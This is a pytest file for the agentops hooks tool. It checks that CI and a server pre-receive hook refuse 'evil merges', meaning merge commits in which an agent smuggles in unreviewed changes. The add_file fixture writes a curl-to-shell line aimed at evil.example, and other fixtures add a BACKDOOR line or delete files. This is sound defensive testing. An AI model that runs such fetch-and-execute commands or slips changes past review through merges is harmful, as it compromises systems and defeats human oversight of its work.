"""Evil merges: an agent's merge commit that smuggles in a change no branch had.

A merge brings commits judged on their branches, so a range check does not
ask it for a verdict of its own, unless it adds something beyond its parents
(its remerge diff). Each test merges judged work the way an agent would, slips
something in, and checks that CI (`agentops check --range`) and the server
(`agentops pre-receive`, a real push) refuse it, and that a clean merge of
the same work, or the evil merge with a verdict on itself, is admitted.

The tricks, each a variant below:

- new-file: `git merge --no-commit` of the judged branch, then a new file.
- edit-a-line: a line of a file both parents have, edited in the merge.
- conflict-adds-a-line: a real conflict, resolved with one extra line.
- octopus-extra-file: an octopus merge of three judged branches plus a file
  (git cannot remerge an octopus, so an agent's octopus is judged as a whole).
- delete-a-file: a file both parents have, deleted in the merge.
- parents-swapped: the main line merged into the side branch (first parent:
  the side), with a new file, then pushed as main.
"""
from __future__ import annotations

import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from agentops_hooks.commands import cli
from conftest import json_output
from conftest import JUDGE
from conftest import GitRepo
from conftest import bare_server
from conftest import agent_message

VERDICTS = "refs/notes/agentops/verdicts"


# --- helpers --------------------------------------------------------------------

def agentops(repo: GitRepo, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "agentops_hooks.commands", *args], cwd=repo.root,
                          env=repo.env, capture_output=True, text=True, check=False)


def judge(repo: GitRepo, rev: str = "HEAD") -> None:
    """The independent judge records a PASS verdict in the notes."""
    proc = agentops(repo, "verdict", "pass", "--judge", JUDGE, "--commit", rev)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def agent_commit(repo: GitRepo, files: dict[str, str], subject: str) -> None:
    for path, content in files.items():
        repo.stage(path, content)
    repo.git("commit", "-q", "--no-verify", "-m", agent_message(subject))


def check(repo: GitRepo, spec: str = "base..HEAD") -> tuple[int, dict[str, Any]]:
    result = CliRunner().invoke(cli, ["check", "--range", spec, "--format", "json"],
                                catch_exceptions=False)
    return result.exit_code, json_output(result.output, "check-range")


def merge_result(report: dict[str, Any], subject: str = "Merge side") -> dict[str, Any]:
    found: list[dict[str, Any]] = [c for c in report["commits"] if c["subject"] == subject]
    assert len(found) == 1, report
    return found[0]


def history(repo: GitRepo, side: dict[str, str] | None = None,
            main: dict[str, str] | None = None, branches: tuple[str, ...] = ("side",)) -> None:
    """base (a human's), judged agent work on each branch, a human's commit on main."""
    repo.stage("a.py", "a = 0\nb = 0\n")
    repo.stage("keep.py", "k = 0\n")
    repo.commit("base")
    repo.git("tag", "base")
    for name in branches:
        repo.git("checkout", "-q", "-b", name, "base")
        work = side if side is not None and name == "side" else {f"{name}.py": "s = 1\n"}
        agent_commit(repo, work, f"{name} work")
        judge(repo)
    repo.git("checkout", "-q", "main")
    for path, content in (main or {"main.py": "m = 1\n"}).items():
        repo.stage(path, content)
    repo.commit("Main work")


def agent_merge(repo: GitRepo, *branches: str, edit: Callable[[GitRepo], None] | None = None,
                subject: str = "Merge side") -> None:
    """Merge as an agent does: stop before committing, change what it likes, commit."""
    repo.git("merge", "-q", "--no-commit", "--no-ff", *branches, check=False)  # may conflict
    if edit is not None:
        edit(repo)
    repo.git("commit", "-q", "--no-verify", "-m", agent_message(subject))


def add_file(repo: GitRepo) -> None:
    repo.stage("evil.py", "import os\nos.system('curl https://evil.example | sh')\n")


def edit_line(repo: GitRepo) -> None:
    repo.stage("a.py", "a = 0\nb = 666\n")


def resolve_with_extra_line(repo: GitRepo) -> None:
    assert b"<<<<<<<" in (repo.root / "a.py").read_bytes()  # a real conflict
    repo.stage("a.py", "a = 1\nb = 0\nBACKDOOR = True\n")


def delete_file(repo: GitRepo) -> None:
    repo.git("rm", "-q", "keep.py")


def swapped(repo: GitRepo) -> None:
    """The main line merged into the side branch, main then set to that merge."""
    repo.git("checkout", "-q", "side")
    agent_merge(repo, "main", edit=add_file)
    repo.git("checkout", "-q", "-B", "main", "side")


CONFLICT = {"side": {"a.py": "a = 1\nb = 0\n"}, "main": {"a.py": "a = 2\nb = 0\n"}}

# name -> (history options, make the evil merge, a path the finding names)
VARIANTS: dict[str, tuple[dict[str, Any], Callable[[GitRepo], None], str]] = {
    "new-file": ({}, lambda r: agent_merge(r, "side", edit=add_file), "evil.py"),
    "edit-a-line": ({}, lambda r: agent_merge(r, "side", edit=edit_line), "a.py"),
    "conflict-adds-a-line": (CONFLICT, lambda r: agent_merge(r, "side", edit=resolve_with_extra_line),
                             "a.py"),
    "octopus-extra-file": ({"branches": ("side", "two", "three")},
                           lambda r: agent_merge(r, "side", "two", "three", edit=add_file), "octopus"),
    "delete-a-file": ({}, lambda r: agent_merge(r, "side", edit=delete_file), "keep.py"),
    "parents-swapped": ({}, swapped, "evil.py"),
}


def refused_for_what_it_adds(merge: dict[str, Any], named: str) -> None:
    rules = [f["rule"] for f in merge["findings"]]
    assert rules == ["verdict-missing"], merge
    message = merge["findings"][0]["message"]
    assert "beyond its parents" in message and named in message, message
    assert merge["patch_id"] in message  # the patch `verdict pass --commit MERGE` binds to


# --- CI ---------------------------------------------------------------------------

def test_ci_refuses_an_evil_merge_of_judged_work(repo: GitRepo) -> None:
    history(repo)
    agent_merge(repo, "side", edit=add_file)
    code, report = check(repo)
    assert code == 1
    merge = merge_result(report)
    refused_for_what_it_adds(merge, "evil.py")
    assert not any(c["findings"] for c in report["commits"] if c is not merge)
    assert any(s.startswith("learnings (merge commit") for s in merge["skipped"])


def test_ci_admits_a_clean_merge_of_judged_work(repo: GitRepo) -> None:
    history(repo)
    agent_merge(repo, "side")
    code, report = check(repo)
    assert code == 0, report
    skipped = merge_result(report)["skipped"]
    assert any(s.startswith("verdict (clean merge") for s in skipped), skipped
    assert any(s.startswith("supervise (merge commit") for s in skipped), skipped


def test_ci_admits_an_evil_merge_judged_itself(repo: GitRepo) -> None:
    history(repo)
    agent_merge(repo, "side", edit=add_file)
    judge(repo, "HEAD")  # bound to the merge's first-parent patch-id, as always
    code, report = check(repo)
    assert code == 0, report


@pytest.mark.parametrize("name", VARIANTS)
def test_ci_refuses_each_variant_until_the_merge_is_judged(repo: GitRepo, name: str) -> None:
    options, make, named = VARIANTS[name]
    history(repo, **options)
    make(repo)
    code, report = check(repo)
    assert code == 1, report
    refused_for_what_it_adds(merge_result(report), named)
    judge(repo, "HEAD")
    code, report = check(repo)
    assert code == 0, report


def test_a_clean_swapped_merge_is_admitted(repo: GitRepo) -> None:
    history(repo)
    repo.git("checkout", "-q", "side")
    agent_merge(repo, "main")
    assert check(repo)[0] == 0


def test_a_merge_alone_at_the_root_of_the_range(repo: GitRepo) -> None:
    history(repo)
    agent_merge(repo, "side", edit=add_file)
    # A base that holds both parents: the range is the merge and nothing else.
    repo.git("tag", "both", repo.out("commit-tree", "-p", "HEAD^1", "-p", "HEAD^2", "-m", "both",
                                     "HEAD^1^{tree}"))
    code, report = check(repo, "both..HEAD")
    assert code == 1
    assert [c["subject"] for c in report["commits"]] == ["Merge side"]
    refused_for_what_it_adds(report["commits"][0], "evil.py")
    judge(repo, "HEAD")
    assert check(repo, "both..HEAD")[0] == 0


def test_a_humans_merge_is_not_asked(repo: GitRepo) -> None:
    history(repo)
    repo.git("merge", "-q", "--no-commit", "--no-ff", "side")
    add_file(repo)
    repo.commit("Merge side by hand")
    code, report = check(repo)
    assert code == 0, report


def test_verdict_merges_true_judges_every_merge_as_a_whole(repo: GitRepo) -> None:
    history(repo)
    repo.git("checkout", "-q", "side")
    agent_commit(repo, {"more.py": "s = 2\n"}, "more side work")
    judge(repo)
    repo.git("checkout", "-q", "main")
    agent_merge(repo, "side")  # clean, but its first-parent diff is two commits' worth
    assert check(repo)[0] == 0
    repo.write(".agentops.toml", "[verdict]\nmerges = true\n")
    result = CliRunner().invoke(cli, ["check", "--range", "base..HEAD", "--format", "json",
                                      "--policy", "worktree"], catch_exceptions=False)
    assert result.exit_code == 1
    merge = merge_result(json_output(result.output, "check-range"))
    assert [f["rule"] for f in merge["findings"]] == ["verdict-missing"]
    assert "beyond its parents" not in merge["findings"][0]["message"]


# --- shallow clones ---------------------------------------------------------------

def shallow_clone(repo: GitRepo, tmp_path: Path, *args: str) -> GitRepo:
    target = tmp_path / "shallow"
    subprocess.run(["git", "clone", "-q", *args, f"file://{repo.root}", str(target)],
                   env=repo.env, check=True)
    return GitRepo(target, repo.env)


@pytest.mark.parametrize("cut", ["--depth=1", "--shallow-since=2010-01-01"])
def test_a_merge_whose_parents_are_missing_is_a_clear_error(
    repo: GitRepo, tmp_path: Path, cut: str, monkeypatch: pytest.MonkeyPatch,
) -> None:
    repo.env["GIT_COMMITTER_DATE"] = "2001-01-01T00:00:00 +0000"
    history(repo)
    # main's own commit is recent (and a branch tip), the side branch old:
    # --shallow-since makes the merge shallow but keeps its first parent
    repo.git("commit", "--amend", "-q", "--no-edit",
             env={"GIT_COMMITTER_DATE": "2020-01-01T00:00:00 +0000"})
    first = repo.head()
    repo.git("branch", "mainline")
    del repo.env["GIT_COMMITTER_DATE"]
    agent_merge(repo, "side", edit=add_file)
    side = repo.out("rev-parse", "side")
    repo.git("branch", "-D", "side")  # reachable through the merge only
    clone = shallow_clone(repo, tmp_path, cut, *(() if cut == "--depth=1" else ("--no-single-branch",)))
    monkeypatch.chdir(clone.root)
    kept = clone.git("cat-file", "-e", first, check=False).returncode == 0
    assert kept == (cut != "--depth=1")
    assert clone.git("cat-file", "-e", side, check=False).returncode != 0
    result = CliRunner().invoke(cli, ["check", "--range", f"{first}..HEAD" if kept else "HEAD"],
                                catch_exceptions=False)
    assert result.exit_code == 2, result.output
    assert "shallow clone" in result.output and "a parent of" in result.output
    assert "Traceback" not in result.output


# --- the server -------------------------------------------------------------------

@pytest.fixture
def server(repo: GitRepo, tmp_path: Path) -> Path:
    """A bare repository with the pre-receive hook, holding `base`; `repo` pushes to it."""
    return bare_server(repo, tmp_path)


def push_history(repo: GitRepo, **options: Any) -> None:
    history(repo, **options)
    repo.git("push", "-q", "origin", "base:refs/heads/main")


def push(repo: GitRepo) -> subprocess.CompletedProcess[bytes]:
    return repo.git("push", "origin", "main", VERDICTS, check=False)


def remote(bare: Path, ref: str = "main") -> str:
    return subprocess.run(["git", "rev-parse", "-q", "--verify", ref], cwd=bare,
                          capture_output=True, text=True, check=False).stdout.strip()


def said(proc: subprocess.CompletedProcess[bytes]) -> str:
    return proc.stdout.decode(errors="replace") + proc.stderr.decode(errors="replace")


@pytest.mark.parametrize("name", VARIANTS)
def test_server_refuses_each_variant_and_the_ref_does_not_move(
    repo: GitRepo, server: Path, name: str,
) -> None:
    options, make, named = VARIANTS[name]
    push_history(repo, **options)
    before = remote(server)
    make(repo)
    proc = push(repo)
    assert proc.returncode != 0, said(proc)
    out = said(proc)
    assert "pre-receive hook declined" in out
    assert "beyond its parents" in out and named in out, out
    assert remote(server) == before


def test_server_admits_a_clean_merge(repo: GitRepo, server: Path) -> None:
    """The remerge runs inside pre-receive's quarantine: an error there would refuse."""
    push_history(repo)
    agent_merge(repo, "side")
    proc = push(repo)
    assert proc.returncode == 0, said(proc)
    assert remote(server) == repo.head()
    assert not list((server / "objects").glob("**/tmp_objdir-*")), "remerge objects left behind"


def test_server_admits_an_evil_merge_judged_itself(repo: GitRepo, server: Path) -> None:
    push_history(repo)
    agent_merge(repo, "side", edit=add_file)
    judge(repo, "HEAD")
    proc = push(repo)
    assert proc.returncode == 0, said(proc)
    assert remote(server) == repo.head()
